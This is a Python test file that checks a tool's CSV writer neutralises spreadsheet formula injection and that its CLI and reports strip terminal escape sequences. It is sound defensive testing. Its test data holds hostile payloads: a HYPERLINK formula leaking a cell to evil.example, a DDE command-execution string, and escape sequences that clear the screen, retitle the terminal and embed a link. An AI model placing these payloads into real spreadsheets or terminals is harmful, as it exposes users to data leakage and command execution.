"""What synth writes must not run inside other programs: spreadsheet formulas in every CSV (issue 22 #7)."""
from __future__ import annotations

import csv

import pytest

from synth.csvcell import csv_cell, csv_row
from synth.icp import Criterion, IcpRules, read_accounts_csv, score_accounts, write_scores_csv

HOSTILE_COMPANIES = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
                     "-2+3", "\t=1+1", " =1+1", "＝1+1"]


@pytest.mark.parametrize("text", HOSTILE_COMPANIES + ["+10 employees 100-500", "-10 industry: agency"])
def test_formula_text_gets_an_apostrophe(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", [0, -12, 3.5, -0.25, "-12", "+3.5", "1e6", "Acme", "", "a=b"])
def test_numbers_and_plain_text_are_unchanged(value):
    assert csv_cell(value) == value


def test_row_helper_none_and_bools_and_control_characters():
    assert csv_row([None, True, False, 7, "=x", "\r=x", "a\x1b[2Jb"]) == ["", "true", "false", 7, "'=x", "'=x", "a[2Jb"]


def test_scores_csv_guards_companies_and_reasons_and_keeps_numbers(tmp_path):
    p = tmp_path / "accounts.csv"
    with p.open("w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(["company", "employees", "industry"])
        for i, c in enumerate(HOSTILE_COMPANIES):
            w.writerow([c, 200 + i, "Software"])
    rules = IcpRules(criteria=[
        Criterion(id="band", attribute="firmographic", field="employees", op="between", value=[100, 500],
                  points=40),
        Criterion(id="agency", attribute="firmographic", field="industry", op="in", value=["software"],
                  points=-10)])
    out = write_scores_csv(score_accounts(read_accounts_csv(p), rules), tmp_path / "o.csv")
    rows = list(csv.reader(out.open(encoding="utf-8")))
    head, body = rows[0], rows[1:]
    assert head[:3] == ["company", "ICP score", "ICP tier"]
    for r in body:
        for cell in r:  # no cell of the file can start a formula
            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "＝")), r
    # the reader trims the cells ("\t=1+1" is read as "=1+1"); every company is kept, guarded
    assert sorted(r[0] for r in body) == sorted("'" + c.strip() for c in HOSTILE_COMPANIES)
    assert {r[1] for r in body} == {"75"}  # the score stays a bare number
    assert body[0][4:6] == ["'+40 employees 100-500", "'-10 industry in software"]
    # the raw file has no quote around the number: a spreadsheet reads it as a number
    assert ",75," in out.read_text(encoding="utf-8")


# ------------------------------------------------------------------ terminal escapes (#6)

EVIL_LABEL = "Shadow \x1b[2J\x1b]0;pwned\x07IT \x9b31mlives\x1b]8;;http://evil.example\x1b\\here\x1b]8;;\x1b\\"


def test_control_characters_never_reach_the_terminal_or_a_report(tmp_path):
    from test_report import build_study
    from typer.testing import CliRunner

    from synth.cli import app

    ws = tmp_path / "ws"
    build_study(ws).close()
    run = lambda *a: CliRunner().invoke(app, [str(x) for x in a], catch_exceptions=False)  # noqa: E731
    rename = run("review", "-w", ws, "rename", "pain-1", EVIL_LABEL)
    assert rename.exit_code == 0, rename.output
    shown = run("review", "-w", ws)
    rep = run("report", "-w", ws, "--offline")
    assert shown.exit_code == 0 and rep.exit_code == 0, rep.output
    md = (ws / "report" / "report.md").read_text(encoding="utf-8")
    html = (ws / "report" / "report.html").read_text(encoding="utf-8")
    csv_text = (ws / "report" / "items.csv").read_text(encoding="utf-8")
    for where, text in [("rename", rename.output), ("review", shown.output), ("report cmd", rep.output),
                        ("report.md", md), ("report.html", html), ("items.csv", csv_text)]:
        for c in ("\x1b", "\x07", "\x9b"):
            assert c not in text, (where, repr(c))
    assert "Shadow [2J]0;pwnedIT" in rename.output and "pwned" in shown.output  # the visible rest stays
    assert "Shadow \\[2J\\]0;pwnedIT" in md  # Markdown-escaped, control characters gone
